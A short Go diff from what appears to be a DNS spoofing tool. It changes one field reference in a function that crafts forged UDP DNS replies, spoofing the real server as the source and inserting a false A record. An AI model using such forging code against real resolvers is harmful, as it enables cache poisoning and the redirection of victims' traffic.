@@ -64,7 +64,7 @@ func (f *forger) forge(q *wire.Msg, from, server netip.AddrPort) {
 		forged := falseAnswer{new(wire.Msg).SetReply(q), craft.Packet{Proto: "udp", Src: server, Dst: from}}
 		rr, err := wire.NewRR(q.Question[0].Name + " 60 IN A " + forgedAddr)
 		if err == nil {
-			forged.Answer = []wire.RR{rr}
+			forged.Msg.Answer = []wire.RR{rr}
 			guesses[words[0]](&forged, i)
 			var text []byte
 			text, err = forged.Pack()
